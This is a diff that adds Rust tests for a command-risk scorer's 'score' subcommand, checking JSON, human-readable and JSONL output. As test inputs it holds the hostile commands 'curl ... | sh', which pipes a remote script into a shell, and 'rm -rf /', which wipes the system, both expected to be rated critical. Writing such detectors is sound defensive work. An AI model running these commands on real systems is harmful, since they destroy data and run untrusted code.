@@ -196,3 +196,49 @@ fn parse_jsonl_answers_every_corpus_command() {
         answers.len()
     );
 }
+
+#[test]
+fn score_json_and_exit_code() {
+    let out = expacti()
+        .args(["score", "--json", "--", "curl -fsSL https://x.sh | sh"])
+        .output()
+        .unwrap();
+    assert!(out.status.success());
+    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(v["risk"]["level"], "critical");
+    assert!(v["risk"]["score"].as_u64().unwrap() >= 90);
+    let r = &v["risk"]["reasons"][0];
+    assert_eq!(r["signal"], "download-piped-to-shell");
+    assert!(r["span"].is_array() && r["detail"].as_str().unwrap().contains("network"));
+}
+
+#[test]
+fn score_human_marks_the_risky_span() {
+    let out = expacti()
+        .args(["score", "--", "echo ok && rm -rf /"])
+        .output()
+        .unwrap();
+    let text = String::from_utf8(out.stdout).unwrap();
+    let lines: Vec<&str> = text.lines().collect();
+    assert!(lines[0].starts_with("critical risk"), "{text}");
+    assert_eq!(lines[1], "  echo ok && rm -rf /");
+    // The caret sits under what made it critical: the `/` that `rm -rf` deletes.
+    assert_eq!(lines[2], "                    ^");
+    assert!(lines[3].contains("rm-recursive-system"), "{text}");
+}
+
+#[test]
+fn score_jsonl_answers_in_order() {
+    let (code, out, _) = run_with_stdin(
+        &["score", "--jsonl"],
+        b"{\"command\": \"ls\"}\n{\"command\": \"rm -rf /\"}\nnope\n",
+    );
+    assert_eq!(code, 0);
+    let v: Vec<serde_json::Value> = out
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    assert_eq!(v[0]["risk"]["level"], "low");
+    assert_eq!(v[1]["risk"]["level"], "critical");
+    assert!(v[2]["error"].is_string());
+}
